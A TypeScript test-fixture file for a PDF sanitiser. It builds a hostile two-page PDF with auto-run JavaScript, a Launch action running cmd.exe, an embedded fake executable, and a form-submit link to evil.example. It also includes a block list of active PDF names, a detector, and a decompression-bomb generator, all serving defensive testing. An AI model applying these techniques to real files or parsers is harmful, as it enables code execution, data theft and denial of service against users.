import { PDFDocument } from '@cantoo/pdf-lib';
import { deflateSync } from 'node:zlib';
import {
  samplePdf,
  writePdf as writeSamplePdf,
} from '../../src/platform/storage/sample-documents.js';

const writePdf = (objects: string[]) => writeSamplePdf(objects, '1.7');

const stream = (dict: string, body: string) =>
  `<< ${dict} /Length ${Buffer.byteLength(body, 'latin1')} >>\nstream\n${body}\nendstream`;

/** The text drawn on each page of the hostile PDF (what must survive the rewrite). */
export const HOSTILE_PDF_TEXT = ['Electricity bill for Adebayo Ogunleye', 'Page two of the bill'];

/**
 * A two-page PDF as an attacker would send it: document JavaScript and an open action, a
 * triggered page action, a link that launches a program, links that submit a form or import
 * data, a `javascript:` link, an attached executable (document-level and as an annotation), a
 * form with XFA and a field script, and one ordinary web link that may stay.
 */
export function hostilePdf(): Buffer {
  const content = (text: string) => stream('', `BT /F1 18 Tf 56 770 Td (${text}) Tj ET`);
  return writePdf([
    /* 1 */ `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R
      /AA << /WC 5 0 R >>
      /Names << /JavaScript << /Names [(init) 5 0 R] >> /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>
      /AcroForm << /Fields [10 0 R] /XFA 12 0 R >> >>`,
    /* 2 */ '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    /* 3 */ `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 13 0 R
      /Resources << /Font << /F1 15 0 R >> >> /AA << /O 5 0 R >>
      /Annots [8 0 R 9 0 R 10 0 R 11 0 R 16 0 R 17 0 R] >>`,
    /* 4 */ `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 14 0 R
      /Resources << /Font << /F1 15 0 R >> >> /Annots [18 0 R] >>`,
    /* 5 */ "<< /Type /Action /S /JavaScript /JS (app.alert\\('owned'\\); this.exportDataObject\\({cName: 'invoice.exe', nLaunch: 2}\\);) >>",
    /* 6 */ '<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>',
    /* 7 */ stream(
      '/Type /EmbeddedFile /Subtype /application#2Foctet-stream',
      'MZ-not-really-a-program',
    ),
    /* 8 */ '<< /Type /Annot /Subtype /Link /Rect [56 700 300 720] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    /* 9 */ '<< /Type /Annot /Subtype /FileAttachment /Rect [56 650 80 674] /FS 6 0 R /Name /PushPin >>',
    /* 10 */ `<< /Type /Annot /Subtype /Widget /FT /Tx /T (account) /V (1234) /Rect [56 600 300 620]
      /AA << /K << /S /JavaScript /JS (event.value = 'x';) >> >> /P 3 0 R >>`,
    /* 11 */ '<< /Type /Annot /Subtype /Link /Rect [56 560 300 580] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>',
    /* 12 */ stream(
      '',
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox("x")</script></xdp:xdp>',
    ),
    /* 13 */ content(HOSTILE_PDF_TEXT[0]),
    /* 14 */ content(HOSTILE_PDF_TEXT[1]),
    /* 15 */ '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    /* 16 */ '<< /Type /Annot /Subtype /Link /Rect [56 520 300 540] /A << /S /URI /URI (https://rentnaija.example/bills) >> >>',
    /* 17 */ '<< /Type /Annot /Subtype /Link /Rect [56 480 300 500] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    /* 18 */ '<< /Type /Annot /Subtype /Link /Rect [56 440 300 460] /A << /S /ImportData /F (data.fdf) /Next 5 0 R >> >>',
  ]);
}

/** Names a rewritten PDF must no longer hold anywhere (its objects are written uncompressed). */
export const ACTIVE_PDF_NAMES = [
  '/JavaScript',
  '/JS',
  '/OpenAction',
  '/AA',
  '/Launch',
  '/SubmitForm',
  '/ImportData',
  '/EmbeddedFile',
  '/EmbeddedFiles',
  '/FileAttachment',
  '/Filespec',
  '/AcroForm',
  '/XFA',
  '/Widget',
];

/** The names of `ACTIVE_PDF_NAMES` found in `pdf`'s bytes, and any trace of the attachment. */
export function activeContentIn(pdf: Buffer): string[] {
  const text = pdf.toString('latin1');
  const found = ACTIVE_PDF_NAMES.filter((name) => new RegExp(`${name}(?![A-Za-z])`).test(text));
  for (const trace of ['invoice.exe', 'MZ-not-really', 'javascript:', 'xfa.host']) {
    if (text.includes(trace)) found.push(trace);
  }
  return found;
}

/** A valid PDF that opens only with a password. */
export async function passwordPdf(): Promise<Buffer> {
  const doc = await PDFDocument.load(samplePdf('Bank statement', ['Account 0123456789']));
  doc.encrypt({ userPassword: 'letmein', ownerPassword: 'owner-secret' });
  return Buffer.from(await doc.save());
}

/** A PDF encrypted only to restrict printing or copying: it opens without a password. */
export async function restrictedPdf(): Promise<Buffer> {
  const doc = await PDFDocument.load(samplePdf('Bank statement', ['Account 0123456789']));
  doc.encrypt({
    userPassword: '',
    ownerPassword: 'owner-secret',
    permissions: { printing: false },
  });
  return Buffer.from(await doc.save());
}

/** Starts like a PDF, then is cut off: no objects, no pages. */
export const brokenPdf = () =>
  Buffer.from(
    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n',
    'latin1',
  );

/**
 * A small PDF whose object stream (its type name written with an escape, `/Obj#53tm`)
 * decompresses to `megabytes` of spaces: a compression bomb for the parser.
 */
export function objectStreamBomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 9 });
  const head = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n', 'latin1')];
  const offsets: number[] = [];
  const size = () => parts.reduce((n, p) => n + p.length, 0);
  head.forEach((body, i) => {
    offsets.push(size());
    parts.push(Buffer.from(`${i + 1} 0 obj\n${body}\nendobj\n`, 'latin1'));
  });
  offsets.push(size());
  parts.push(
    Buffer.from(
      `4 0 obj\n<< /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      'latin1',
    ),
    packed,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  );
  const xref = size();
  parts.push(
    Buffer.from(
      `xref\n0 5\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}` +
        `trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}
